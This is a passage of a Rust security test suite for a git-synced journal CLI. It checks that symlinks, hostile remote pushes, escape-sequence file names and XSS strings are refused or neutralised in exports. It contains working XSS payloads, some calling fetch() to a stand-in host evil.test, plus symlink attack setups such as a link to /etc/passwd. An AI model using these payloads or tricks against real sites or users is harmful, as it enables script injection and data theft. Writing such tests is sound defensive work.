        if doctor.code != 1 || !names_link(&format!("{}{}", doctor.stdout, doctor.stderr), link) {
            failures.push(format!(
                "{link}: doctor exited {}: {}{}",
                doctor.code, doctor.stdout, doctor.stderr
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Attack: an entry file (or a goal) that is a link to a file outside: read into the log
/// and the portfolio, or written through by a command that updates it.
#[test]
fn an_entry_file_that_is_a_link_is_not_read_exported_or_written() {
    let env = TestEnv::new();
    env.ok(&["learn", "Real lesson"]);
    env.ok(&["goal", "add", "Real goal", "--id", "real"]);
    let outside_entry = env.root.join("outside-entry.md");
    std::fs::write(
        &outside_entry,
        "+++\nid = \"2026-11-20-linked\"\nkind = \"learned\"\ndate = 2026-11-20\n\
         created = 2026-11-20T09:00:00+01:00\ntitle = \"OUTSIDE-ENTRY-MARKER\"\ntags = []\n\
         goals = []\nvisibility = \"public\"\n+++\n\nOUTSIDE-BODY-MARKER\n",
    )
    .unwrap();
    symlink(
        &outside_entry,
        env.path("learned/2026/2026-11-20-linked.md"),
    )
    .unwrap();
    let outside_goal = env.root.join("outside-goal.md");
    let goal_text = "+++\nid = \"linked\"\nkind = \"goal\"\ndate = 2026-11-20\n\
         created = 2026-11-20T09:00:00+01:00\ntitle = \"OUTSIDE-GOAL-MARKER\"\ntags = []\n\
         goals = []\nvisibility = \"public\"\nstatus = \"active\"\n+++\n";
    std::fs::write(&outside_goal, goal_text).unwrap();
    symlink(&outside_goal, env.path("goals/linked.md")).unwrap();

    let run = env.run(&["log"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.contains("Real lesson"));
    assert!(!run.stdout.contains("OUTSIDE"), "{}", run.stdout);
    assert!(
        names_link(&run.stderr, "2026-11-20-linked.md"),
        "{}",
        run.stderr
    );
    let listed = serde_json::to_string(&env.log_json(&[])).unwrap();
    assert!(!listed.contains("OUTSIDE"), "{listed}");
    for args in [
        vec!["search", "outside"],
        vec!["goal", "list"],
        vec!["export", "--format", "json", "--include-private"],
        vec!["export", "--format", "markdown", "--include-private"],
        vec!["export", "--format", "jsonresume", "--include-private"],
    ] {
        let out = env.run(&args);
        assert!(!out.stdout.contains("OUTSIDE"), "{args:?}: {}", out.stdout);
    }
    env.run(&["export", "--out", "site", "--include-private"]);
    assert_eq!(
        holding(&env.root.join("site"), "OUTSIDE"),
        Vec::<PathBuf>::new()
    );
    assert_eq!(env.run(&["show", "2026-11-20-linked"]).code, 1);
    // Writing to the linked goal fails and leaves the file outside alone.
    let run = env.run(&["goal", "progress", "linked", "written through the link"]);
    assert_ne!(run.code, 0, "{}", run.stderr);
    assert_eq!(std::fs::read_to_string(&outside_goal).unwrap(), goal_text);
    let doctor = env.run(&["doctor"]);
    assert_eq!(doctor.code, 1);
    let report = format!("{}{}", doctor.stdout, doctor.stderr);
    assert!(names_link(&report, "2026-11-20-linked.md"), "{report}");
    assert!(report.contains("goals/linked.md"), "{report}");
}

/// Attack: `.mpl` (the lock and the drafts) is a link to a folder outside, or the lock file
/// itself links to a file the user cares about: taking the lock would write outside.
#[test]
fn machine_state_that_is_a_link_is_never_written_through() {
    let mut env = TestEnv::new();
    env.ok(&["learn", "First lesson"]);
    let commits = env.commit_count();
    let outside = env.root.join("state-elsewhere");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::remove_dir_all(env.path(".mpl")).unwrap();
    symlink(&outside, env.path(".mpl")).unwrap();
    let err = env.fails(&["learn", "x"], 1);
    assert!(names_link(&err, ".mpl"), "{err}");
    let run = env.run_with_stdin(&["reflect"], "a draft that must not land outside");
    assert_ne!(run.code, 0);
    assert_eq!(names_in(&outside), Vec::<String>::new(), "written outside");
    assert_eq!(env.commit_count(), commits);

    // The lock file as a link to a precious file.
    std::fs::remove_file(env.path(".mpl")).unwrap();
    std::fs::create_dir_all(env.path(".mpl")).unwrap();
    let precious = env.root.join("bashrc");
    std::fs::write(&precious, "PRECIOUS\n").unwrap();
    symlink(&precious, env.path(".mpl/lock")).unwrap();
    let run = env.run(&["learn", "y"]);
    assert_eq!(std::fs::read_to_string(&precious).unwrap(), "PRECIOUS\n");
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(names_link(&run.stderr, ".mpl/lock"), "{}", run.stderr);
    // The drafts folder as a link: text typed into an editor that then crashes is kept as
    // a draft, which must not land outside.
    std::fs::remove_file(env.path(".mpl/lock")).unwrap();
    symlink(&outside, env.path(".mpl/drafts")).unwrap();
    let editor = env.editor("crash.sh", "echo 'typed text' >> \"$1\"; exit 1");
    env.set("EDITOR", &editor);
    let run = env.run(&["reflect", "--edit"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(names_link(&run.stderr, ".mpl/drafts"), "{}", run.stderr);
    assert_eq!(
        names_in(&outside),
        Vec::<String>::new(),
        "a draft went outside"
    );
}

/// Attack: `mpl.toml` arrives as a link (to another journal's settings, or to a file the
/// attacker wants rewritten).
#[test]
fn settings_that_are_a_link_are_refused() {
    let env = TestEnv::new();
    env.ok(&["learn", "First lesson"]);
    let outside = env.root.join("mpl.toml");
    std::fs::rename(env.path("mpl.toml"), &outside).unwrap();
    let before = std::fs::read_to_string(&outside).unwrap();
    symlink(&outside, env.path("mpl.toml")).unwrap();
    for args in [
        vec!["log"],
        vec!["learn", "x"],
        vec!["export", "--format", "json"],
        vec!["doctor"],
    ] {
        let run = env.run(&args);
        assert_eq!(run.code, 1, "{args:?}: {}", run.stderr);
        let said = format!("{}{}", run.stdout, run.stderr);
        assert!(names_link(&said, "mpl.toml"), "{args:?}: {said}");
    }
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), before);
}

// ---------------------------------------------------------------------------------------
// 3. Remote trees holding what a journal must not
// ---------------------------------------------------------------------------------------

const DRAFT: &str = ".mpl/drafts/reflection-answers-2026-11-25.md";
const DRAFT_TEXT: &str = "MY UNSAVED DRAFT: half an answer\n";

/// A bare remote, a journal synced with it that holds a learned entry and an unsaved local
/// draft, and a plain git clone of the remote for the attacker to push from.
struct Remote {
    dir: tempfile::TempDir,
    url: String,
    journal: TestEnv,
}

impl Remote {
    fn new() -> Remote {
        let dir = tempfile::tempdir().unwrap();
        git_in(
            dir.path(),
            &[
                "init",
                "-q",
                "--bare",
                "--initial-branch=main",
                "journal.git",
            ],
        );
        let url = dir.path().join("journal.git").display().to_string();
        let journal = TestEnv::new();
        journal.ok(&["init", "--name", "Ada", "--remote", &url]);
        journal.ok(&["learn", "First lesson"]);
        journal.ok(&["sync"]);
        std::fs::create_dir_all(journal.path(".mpl/drafts")).unwrap();
        std::fs::write(journal.path(DRAFT), DRAFT_TEXT).unwrap();
        git_in(dir.path(), &["clone", "-q", &url, "plain"]);
        Remote { dir, url, journal }
    }

    /// The attacker's plain clone.
    fn plain(&self) -> PathBuf {
        self.dir.path().join("plain")
    }

    /// Commits everything in the plain clone (ignored files too) and pushes it.
    fn push(&self, message: &str) {
        let plain = self.plain();
        git_in(&plain, &["add", "-A", "-f", "."]);
        git_in(&plain, &["commit", "-q", "-m", message]);
        git_in(&plain, &["push", "-q", "origin", "main"]);
    }
}

/// What an attacker pushes, and the path `mpl sync` must name.
type Plant = fn(&Path, &Path) -> &'static str;

fn plant_learned_link(plain: &Path, outside: &Path) -> &'static str {
    std::fs::remove_dir_all(plain.join("learned")).unwrap();
    symlink(outside, plain.join("learned")).unwrap();
    "learned"
}

fn plant_attachments_link(plain: &Path, outside: &Path) -> &'static str {
    symlink(outside, plain.join("attachments")).unwrap();
    "attachments"
}

fn plant_nested_link(plain: &Path, _outside: &Path) -> &'static str {
    symlink(
        "/etc/passwd",
        plain.join("learned/2026/2026-11-20-passwd.md"),
    )
    .unwrap();
    "learned/2026/2026-11-20-passwd.md"
}

fn plant_draft(plain: &Path, _outside: &Path) -> &'static str {
    std::fs::create_dir_all(plain.join(".mpl/drafts")).unwrap();
    std::fs::write(plain.join(DRAFT), "REMOTE TEXT REPLACING THE DRAFT\n").unwrap();
    // (The whole of `.mpl` is refused, and named.)
    ".mpl"
}

fn plant_state_link(plain: &Path, outside: &Path) -> &'static str {
    symlink(outside, plain.join(".mpl")).unwrap();
    ".mpl"
}

fn plant_upper_case_state(plain: &Path, _outside: &Path) -> &'static str {
    std::fs::create_dir_all(plain.join(".MPL")).unwrap();
    std::fs::write(
        plain.join(".MPL/x"),
        "on a case-insensitive disk this is .mpl/x\n",
    )
    .unwrap();
    ".MPL"
}

fn plant_submodule(plain: &Path, _outside: &Path) -> &'static str {
    // (An empty folder where the submodule would be checked out keeps `git add -A` from
    // taking it out again.)
    std::fs::create_dir_all(plain.join("vendor")).unwrap();
    let head = git_in(plain, &["rev-parse", "HEAD"]);
    git_in(
        plain,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{},vendor", head.trim()),
        ],
    );
    "vendor"
}

const PLANTS: [(&str, Plant); 7] = [
    ("learned as a link", plant_learned_link),
    ("attachments as a link", plant_attachments_link),
    ("an entry file as a link", plant_nested_link),
    ("a machine-local draft", plant_draft),
    (".mpl as a link", plant_state_link),
    (".MPL", plant_upper_case_state),
    ("a submodule", plant_submodule),
];

/// Attack: a remote that someone else can push to sends a tree holding a link (to `~/.ssh`
/// or out of the journal), machine-local state (`.mpl/`, replacing the local unsaved draft)
/// or a submodule. `sync` refuses it, names the path, loses nothing local and creates no
/// link; `clone` refuses it too.
#[test]
fn sync_and_clone_refuse_a_remote_tree_holding_links_state_or_submodules() {
    let mut failures = Vec::new();
    for (what, plant) in PLANTS {
        let remote = Remote::new();
        let outside = remote.dir.path().join("outside");
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("id_ed25519"), KEY_MARKER).unwrap();
        let path = plant(&remote.plain(), &outside);
        remote.push(what);
        let env = &remote.journal;
        let head = env.git(&["rev-parse", "HEAD"]);
        // Twice: a second sync, with the remote's commit already fetched, refuses it too.
        for attempt in 1..=2 {
            let run = env.run(&["sync"]);
            if run.code != 1 || !run.stderr.contains(path) {
                failures.push(format!(
                    "{what} (sync {attempt}): exit {}, should be 1 naming {path}: {}",
                    run.code, run.stderr
                ));
            }
        }
        if std::fs::read_to_string(env.path(DRAFT)).ok().as_deref() != Some(DRAFT_TEXT) {
            failures.push(format!("{what}: the local draft changed"));
        }
        let links = links_under(&env.journal());
        if !links.is_empty() {
            failures.push(format!("{what}: links in the journal: {links:?}"));
        }
        let now = env.git(&["rev-parse", "HEAD"]);
        if now != head {
            let message = env.git(&["log", "-1", "--format=%s"]);
            let parent = env.git(&["rev-parse", "HEAD^"]);
            if message.trim() != "sync: hand edits" || parent != head {
                failures.push(format!("{what}: HEAD moved to {message}"));
            }
        }
        if !env
            .path("learned/2026/2026-11-25-first-lesson.md")
            .is_file()
        {
            failures.push(format!("{what}: the local entry is gone"));
        }
        if names_in(&outside) != ["id_ed25519"] {
            failures.push(format!("{what}: written outside: {:?}", tree(&outside)));
        }
        // Local work goes on.
        let run = env.run(&["learn", "After the refusal"]);
        if run.code != 0 {
            failures.push(format!("{what}: learn after the refusal: {}", run.stderr));
        }
        // A clone of that remote is refused and leaves no link.
        let copy = env.root.join("copy");
        let run = env.run(&["clone", &remote.url, copy.to_str().unwrap()]);
        if run.code != 1 || !run.stderr.contains(path) {
            failures.push(format!(
                "{what}: clone exited {}, should be 1 naming {path}: {}",
                run.code, run.stderr
            ));
        }
        let links = links_under(&copy);
        if !links.is_empty() {
            failures.push(format!("{what}: links in the clone: {links:?}"));
        }
        if names_in(&outside) != ["id_ed25519"] {
            failures.push(format!("{what}: clone wrote outside: {:?}", tree(&outside)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Attack: a link made in the journal by hand (or by another tool) would be committed and
/// pushed by `sync`, to be checked out on every other machine.
#[test]
fn sync_never_commits_a_link_made_by_hand() {
    let remote = Remote::new();
    let env = &remote.journal;
    let outside = env.root.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret.md"), KEY_MARKER).unwrap();
    symlink(&outside, env.path("notes")).unwrap();
    symlink(
        outside.join("secret.md"),
        env.path("learned/2026/2026-11-25-linked.md"),
    )
    .unwrap();
    // An ordinary hand edit next to them still goes out.
    env.write(
        "learned/2026/2026-11-24-by-hand.md",
        "+++\nid = \"2026-11-24-by-hand\"\nkind = \"learned\"\ndate = 2026-11-24\n\
         created = 2026-11-24T09:00:00+01:00\ntitle = \"By hand\"\ntags = []\ngoals = []\n\
         visibility = \"public\"\n+++\n",
    );
    let run = env.run(&["sync"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    for link in ["notes", "learned/2026/2026-11-25-linked.md"] {
        assert!(names_link(&run.stderr, link), "{link}: {}", run.stderr);
    }
    let tracked = env.git(&["ls-tree", "-r", "--name-only", "HEAD"]);
    assert!(tracked.contains("2026-11-24-by-hand.md"), "{tracked}");
    assert!(!tracked.contains("notes"), "{tracked}");
    assert!(!tracked.contains("linked"), "{tracked}");
    let pushed = git_in(
        remote.dir.path(),
        &["--git-dir", "journal.git", "ls-tree", "-r", "main"],
    );
    assert!(!pushed.contains("120000"), "a link was pushed:\n{pushed}");
    assert!(!pushed.contains("notes"), "{pushed}");
}

/// A tracked folder replaced by a link to one outside: the link is left out, and the files
/// the folder held are not taken for deleted (their history stays, nothing of the outside
/// folder goes in).
#[test]
fn sync_keeps_a_folder_that_became_a_link_as_it_was() {
    let remote = Remote::new();
    let env = &remote.journal;
    env.write("notes/one.md", "one\n");
    let run = env.run(&["sync"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let outside = env.root.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret.md"), KEY_MARKER).unwrap();
    std::fs::remove_dir_all(env.path("notes")).unwrap();
    symlink(&outside, env.path("notes")).unwrap();
    let run = env.run(&["sync"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(names_link(&run.stderr, "notes"), "{}", run.stderr);
    let tracked = env.git(&["ls-tree", "-r", "HEAD", "--", "notes"]);
    assert!(tracked.contains("notes/one.md"), "{tracked}");
    assert!(
        !tracked.contains("secret") && !tracked.contains("120000"),
        "{tracked}"
    );
}

/// Attack: files whose names hold escape sequences arrive through `sync`, and a conflict on
/// one makes `sync` name it in a warning.
#[test]
fn sync_names_incoming_files_with_their_control_characters_as_text() {
    let remote = Remote::new();
    let plain = remote.plain();
    let name = format!("learned/2026/{EVIL_NAME}.md");
    let entry = |body: &str| {
        format!(
            "+++\nid = \"x\"\nkind = \"learned\"\ndate = 2026-11-23\ntitle = \"Named\"\n+++\n\n\
             line one\n{body}\nline three\n"
        )
    };
    std::fs::write(plain.join(&name), entry("from the remote")).unwrap();
    remote.push("a hostile name");
    let env = &remote.journal;
    let mut outputs = vec![raw(env, &["--color", "never", "sync"])];
    // Both sides change the same line of it.
    std::fs::write(plain.join(&name), entry("changed over there")).unwrap();
    remote.push("theirs");
    env.write(&name, &entry("changed here"));
    outputs.push(raw(env, &["--color", "never", "sync"]));
    outputs.push(raw(env, &["--color", "always", "sync"]));
    outputs.push(raw(env, &["--color", "never", "log"]));
    outputs.push(raw(env, &["--color", "never", "doctor"]));
    let mut said = String::new();
    for out in &outputs {
        for bytes in [&out.stdout, &out.stderr] {
            let problems = terminal_problems(bytes, true);
            assert!(problems.is_empty(), "{problems:?}");
            said.push_str(&String::from_utf8_lossy(bytes));
        }
    }
    assert!(said.contains("name␛]0;pwned-by-name␇"), "{said}");
    assert!(
        said.contains("both machines"),
        "no conflict was reported:\n{said}"
    );
}

/// Attack: the remote drops `.gitignore`, so that the next "hand edits" commit on this
/// machine would take its unsaved drafts and lock and push them for the attacker to read.
#[test]
fn a_remote_that_drops_the_ignore_rules_never_receives_local_drafts() {
    let remote = Remote::new();
    let plain = remote.plain();
    std::fs::remove_file(plain.join(".gitignore")).unwrap();
    git_in(&plain, &["add", "-A"]);
    git_in(&plain, &["commit", "-q", "-m", "no more ignore rules"]);
    git_in(&plain, &["push", "-q", "origin", "main"]);
    let env = &remote.journal;
    // Twice: the first sync brings the change, the second commits any "hand edits".
    for _ in 0..2 {
        let run = env.run(&["sync"]);
        assert_eq!(run.code, 0, "{}", run.stderr);
    }
    env.ok(&["learn", "After"]);
    env.ok(&["sync"]);
    let pushed = git_in(
        remote.dir.path(),
        &[
            "--git-dir",
            "journal.git",
            "ls-tree",
            "-r",
            "--name-only",
            "main",
        ],
    );
    assert!(!pushed.contains(".mpl"), "local state went out:\n{pushed}");
    assert_eq!(
        std::fs::read_to_string(env.path(DRAFT)).unwrap(),
        DRAFT_TEXT
    );
}

// ---------------------------------------------------------------------------------------
// 4. JSON Resume "plain text" that a theme inserts as HTML
// ---------------------------------------------------------------------------------------

/// Payloads that survive a naive tag-stripping pass, or that a Markdown parser turns back
/// into `<`: nested tags, entities, backslash escapes, code spans, comments.
const HTML_PAYLOADS: [&str; 10] = [
    "<<b>img src=x onerror=alert(1)>",
    "<scr<script>x</script>ipt>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<svg/onload=alert(1)>",
    "&#60;img src=x onerror=fetch('http://evil.test/entity')&#62;",
    "\\<img src=x onerror=fetch('http://evil.test/escape')>",
    "`<img src=x onerror=fetch('http://evil.test/code')>`",
    "<!--><img src=x onerror=fetch('http://evil.test/comment')>-->",
    "<<b>iframe srcdoc=x>",
    "<a href=javascript:alert(1)>click</a> <IMG SRC=x ONERROR=alert(1)>",
];

/// A journal whose public and private goals, evidence, learned entries and feedback carry
/// every payload in titles, impacts, why/measure, notes and feedback bodies, with a link
/// holding a quote planted by hand.
fn html_journal() -> TestEnv {
    let env = TestEnv::new();
    env.ok(&[
        "init",
        "--name",
        "<<b>img src=x onerror=alert('name')>",
        "--headline",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ]);
    let all = HTML_PAYLOADS.join(" ");
    for (i, payload) in HTML_PAYLOADS.iter().enumerate() {
        let id = format!("g{i}");
        env.ok(&[
            "goal",
            "add",
            payload,
            "--id",
            &id,
            "--why",
            payload,
            "--measure",
            payload,
            "--aligned-with",
            payload,
            "--tag",
            "skill",
        ]);
        env.ok(&[
            "evidence",
            "add",
            payload,
            "--impact",
            payload,
            "--goal",
            &id,
            "--note",
            &all,
            "--tag",
            "skill",
            "--date",
            "2026-11-20",
        ]);
        env.ok(&["goal", "done", &id, payload]);
        env.ok(&[
            "feedback",
            "add",
            &format!("{payload}\n\n{all}"),
            "--from",
            payload,
        ]);
        let run = env.run_with_stdin(
            &["learn", "--tag", "skill", "--date", "2026-11-21"],
            &format!("{payload} learned\n\n{all}\n"),
        );
        assert_eq!(run.code, 0, "{}", run.stderr);
    }
    // Sources that are not web addresses stay text, never a link.
    for source in [
        "javascript:alert(1)",
        "https://x.example/\"onmouseover=alert(1)",
        "<svg/onload=alert(1)>",
    ] {
        env.ok(&[
            "learn",
            "Source test",
            "--source",
            source,
            "--date",
            "2026-11-22",
        ]);
    }
    // Unachieved and private evidence too.
    env.ok(&[
        "evidence",
        "add",
        HTML_PAYLOADS[0],
        "--impact",
        HTML_PAYLOADS[1],
        "--private",
    ]);
    // A link with a quote, and a script link, planted by hand.
    let path = env.log_json(&["--kind", "evidence"])[0]["path"]
        .as_str()
        .unwrap()
        .to_string();
    let text = env.read(&path).replacen(
        "visibility = ",
        "links = [\"https://x.example/\\\"onmouseover=alert(1)\", \"javascript:alert(1)\", \"https://x.example/'><svg/onload=alert(1)>\"]\nvisibility = ",
        1,
    );
    env.write(&path, &text);
    env
}

/// Every string in a JSON document, keys included.
fn strings(value: &serde_json::Value, out: &mut Vec<String>) {
    match value {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                out.push(k.clone());
                strings(v, out);
            }
        }
        _ => {}
    }
}

/// The strings of `doc` that an HTML parser could read as markup: `<` followed by an ASCII
/// letter, `/`, `!` or `?`.
fn markup_in(doc: &serde_json::Value) -> Vec<String> {
    let mut all = Vec::new();
    strings(doc, &mut all);
    all.into_iter()
        .filter(|s| {
            s.as_bytes().windows(2).any(|w| {
                w[0] == b'<' && (w[1].is_ascii_alphabetic() || matches!(w[1], b'/' | b'!' | b'?'))
            })
        })
        .collect()
}

/// Attack: a link with a quote breaks out of an `href` attribute; a script link runs when
/// clicked. Refused where it is typed.
#[test]
fn links_that_could_break_out_of_an_attribute_are_refused_at_input() {
    let env = TestEnv::new();
    env.ok(&["init"]);
    for link in [
        "https://x/\"onmouseover=alert(1)",
        "javascript:alert(1)",
        "https://x/'><svg/onload=alert(1)>",
        "https://x/<script>",
    ] {
        let err = env.fails(&["evidence", "add", "T", "--link", link], 2);
        assert!(
            err.contains("--link") || err.contains("address"),
            "{link}: {err}"
        );
    }
    // (`learn --source` is "a URL, a book, a person": free text, never linked unless it is
    // a checked web address; see html_journal.)
    for args in [
        vec!["toolkit", "add", "T", "--url", "javascript:alert(1)"],
        vec![
            "toolkit",
            "add",
            "T",
            "--url",
            "https://x/\"onmouseover=alert(1)",
        ],
    ] {
        env.fails(&args, 2);
    }
    assert!(env.log_json(&[]).is_empty());
}

/// Attack: JSON Resume themes insert strings into the page as HTML. No string of the
/// document may be readable as markup, and a link with a quote (planted by hand) never goes
/// out raw.
#[test]
fn json_resume_strings_can_never_be_read_as_markup() {
    let env = html_journal();
    let text = env.ok(&["export", "--format", "jsonresume", "--include-private"]);
    let doc: serde_json::Value = serde_json::from_str(&text).unwrap();
    let found = markup_in(&doc);
    assert!(found.is_empty(), "strings that read as markup: {found:#?}");
    let mut all = Vec::new();
    strings(&doc, &mut all);
    for s in &all {
        assert!(!s.contains("\"onmouseover"), "raw quote in {s:?}");
        assert!(!s.to_ascii_lowercase().starts_with("javascript:"), "{s:?}");
    }
    // The text is still there to read.
    assert!(text.contains("onerror=alert(1)"), "{text}");
    // The other formats are held to their own promises. The Markdown, rendered by a
    // CommonMark renderer, holds no raw HTML and no script link.
    use pulldown_cmark::{Event, Parser, Tag};
    let md = env.ok(&["export", "--format", "markdown", "--include-private"]);
    for event in Parser::new(&md) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => {
                panic!("the Markdown export holds raw HTML: {html:?}")
            }
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                let url = dest_url.to_ascii_lowercase();
                assert!(
                    url.starts_with("https://")
                        || url.starts_with("http://")
                        || url.starts_with("mailto:")
                        || url.starts_with("files/"),
                    "the Markdown export links to {dest_url:?}"
                );
                assert!(!url.contains('"') && !url.contains('<'), "{dest_url:?}");
            }
            _ => {}
        }
    }
    // The site carries no live tag, handler, script link or raw quote in a link.
    env.ok(&["export", "--out", "site", "--include-private"]);
    let html = std::fs::read_to_string(env.root.join("site/index.html")).unwrap();
    let live = live_markup(&html);
    assert!(live.is_empty(), "index.html: {live:#?}");
}

/// The start tags in `html` (`<` and a letter up to the `>` outside quotes), each as its
/// lowercased name and attributes (name, value).
fn start_tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let b = html.as_bytes();
    let mut tags = Vec::new();
    let mut i = 0;
    while i + 1 < b.len() {
        if !(b[i] == b'<' && b[i + 1].is_ascii_alphabetic()) {
            i += 1;
            continue;
        }
        i += 1;
        let name_end = i + b[i..]
            .iter()
            .position(|c| c.is_ascii_whitespace() || matches!(c, b'>' | b'/'))
            .unwrap_or(b.len() - i);
        let name = html[i..name_end].to_ascii_lowercase();
        i = name_end;
        let mut attrs = Vec::new();
        loop {
            while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/') {
                i += 1;
            }
            if i >= b.len() || b[i] == b'>' {
                break;
            }
            let start = i;
            while i < b.len() && !(b[i].is_ascii_whitespace() || matches!(b[i], b'=' | b'>')) {
                i += 1;
            }
            let attr = html[start..i].to_ascii_lowercase();
            let mut value = String::new();
            if i < b.len() && b[i] == b'=' {
                i += 1;
                if i < b.len() && matches!(b[i], b'"' | b'\'') {
                    let q = b[i];
                    let end = i
                        + 1
                        + b[i + 1..]
                            .iter()
                            .position(|c| *c == q)
                            .unwrap_or(b.len() - i - 1);
                    value = html[i + 1..end].to_string();
                    i = end + 1;
                } else {
                    let start = i;
                    while i < b.len() && !(b[i].is_ascii_whitespace() || b[i] == b'>') {
                        i += 1;
                    }
                    value = html[start..i].to_string();
                }
            }
            attrs.push((attr, value));
        }
        tags.push((name, attrs));
    }
    tags
}

/// What in `html` a browser would run or load: a script-capable element, an event handler,
/// a script or HTML `data:` link, an image from anywhere but the site or a data picture.
fn live_markup(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (name, attrs) in start_tags(html) {
        if matches!(
            name.as_str(),
            "script" | "iframe" | "frame" | "object" | "embed" | "base" | "form" | "link"
        ) || (name == "meta"
            && attrs
                .iter()
                .any(|(a, v)| a == "http-equiv" && v.eq_ignore_ascii_case("refresh")))
        {
            found.push(format!("<{name} {attrs:?}>"));
        }
        for (attr, value) in &attrs {
            let v = value.trim().to_ascii_lowercase();
            if attr.starts_with("on") {
                found.push(format!("<{name}> handler {attr}={value:?}"));
            }
            if matches!(
                attr.as_str(),
                "href" | "src" | "action" | "formaction" | "xlink:href" | "srcdoc"
            ) && (v.starts_with("javascript:")
                || v.starts_with("data:text")
                || v.starts_with("vbscript:")
                || attr == "srcdoc")
            {
                found.push(format!("<{name}> {attr}={value:?}"));
            }
            if name == "img"
                && attr == "src"
                // The site's own files, from the home page or from a page one folder down.
                && !(v.starts_with("files/")
                    || v.starts_with("../files/") && !v[3..].contains("..")
                    || v.starts_with("data:image/"))
            {
                found.push(format!("<img src={value:?}>"));
            }
        }
    }
    found
}

/// The page a careless theme makes: every string of the document inserted with innerHTML,
/// one element each and all in one template; it reports what elements the data made.
fn careless_theme(resume: &str) -> String {
    // `<` inside the JSON as \u003c, so the document cannot close the script element.
    let data = resume.replace('<', "\\u003c");
    format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"></head><body>\
         <div id=\"each\"></div><div id=\"template\"></div><div id=\"control\"></div>\
         <pre id=\"result\"></pre><script>\n\
         const doc = {data};\n\
         const all = [];\n\
         (function walk(v) {{ if (typeof v === 'string') all.push(v);\
           else if (v && typeof v === 'object') for (const k in v) {{ all.push(k); walk(v[k]); }} }})(doc);\n\
         const each = document.getElementById('each');\n\
         for (const s of all) {{ const d = document.createElement('div'); d.innerHTML = s; each.appendChild(d); }}\n\
         document.getElementById('template').innerHTML = all.map(s => '<p>' + s + '</p>').join('');\n\
         document.getElementById('control').innerHTML = '<img src=\"x\"><b>control</b>';\n\
         const count = (sel) => document.querySelectorAll('#each ' + sel + ', #template ' + sel).length;\n\
         document.getElementById('result').textContent = 'RESULT strings=' + all.length +\
           ' img=' + count('img') + ' svg=' + count('svg') + ' script=' + count('script') +\
           ' iframe=' + count('iframe') + ' a=' + count('a[href]') + ' handlers=' +\
           document.querySelectorAll('#each [onerror], #each [onload], #template [onerror], #template [onload], #each [onmouseover], #template [onmouseover]').length +\
           ' control=' + document.querySelectorAll('#control img').length + ' END';\n\
         </script></body></html>"
    )
}

/// Attack: the payloads in a real browser, inserted by a careless theme with innerHTML:
/// no element may come out of the data, and nothing may reach the network.
#[test]
fn json_resume_inserted_as_html_in_chromium_creates_no_element_and_no_request() {
    let Some(browser) = chromium() else {
        available("chromium", false, "apt-get install chromium");
        return;
    };
    let env = html_journal();
    let profile = env.root.join("profile");
    // What the careless theme reports for a document, and the requests its page made.
    let theme = |resume: &str, name: &str| -> (String, Vec<String>) {
        let page = env.root.join(name);
        std::fs::write(&page, careless_theme(resume)).unwrap();
        let recorder = Recorder::start();
        let dom = browse_within(
            &browser,
            &page,
            recorder.port,
            &profile,
            &["--dump-dom".into(), "--virtual-time-budget=2000".into()],
            60,
        )
        .expect("chromium showed the page");
        let result = dom
            .split("RESULT ")
            .nth(1)
            .and_then(|r| r.split(" END").next())
            .unwrap_or_else(|| panic!("the page did not report:\n{dom}"))
            .to_string();
        assert!(
            result.contains("control=1"),
            "the harness did not run: {result}"
        );
        (result, page_requests(recorder.finish()))
    };
    // The harness catches a document that does carry markup.
    let (result, requests) = theme(
        r#"{"basics": {"name": "<img src=x onerror=fetch('http://evil.test/control')>"}}"#,
        "control.html",
    );
    assert!(!result.contains(" img=0 "), "{result}");
    assert!(
        requests.iter().any(|r| r.contains("evil.test")),
        "{requests:?}"
    );

    let resume = env.ok(&["export", "--format", "jsonresume", "--include-private"]);
    let (result, requests) = theme(&resume, "theme.html");
    assert!(!result.contains("strings=0 "), "{result}");
    for zero in [
        "img=0",
        "svg=0",
        "script=0",
        "iframe=0",
        "a=0",
        "handlers=0",
    ] {
        assert!(
            result.split_whitespace().any(|w| w == zero),
            "the data made elements: {result}"
        );
    }
    assert!(
        requests.is_empty(),
        "the page asked the network for {requests:?}"
    );
}

/// The checks above catch what they look for (so a passing test means something).
#[test]
fn the_checks_themselves_catch_what_they_look_for() {
    assert!(terminal_problems(b"ok \x1b[1mbold\x1b[0m\n\ttab", true).is_empty());
    assert!(!terminal_problems(b"ok \x1b[1mbold\x1b[0m", false).is_empty());
    for bad in [
        &b"\x1b]0;t\x07"[..],
        b"a\rb",
        b"a\x08b",
        b"a\x00b",
        b"a\x7fb",
        "a\u{9b}2J".as_bytes(),
        "a\u{202e}b".as_bytes(),
        "a\u{2066}b".as_bytes(),
        b"\x1b[2J",
    ] {
        assert!(!terminal_problems(bad, true).is_empty(), "{bad:?}");
    }
    assert!(json_problems(b"{\"a\": \"\\u001b\"}\n").is_empty());
    assert!(!json_problems("{\"a\": \"\u{7f}\"}".as_bytes()).is_empty());
    assert!(!json_problems("{\"a\": \"\u{9b}\"}".as_bytes()).is_empty());
    for bad in [
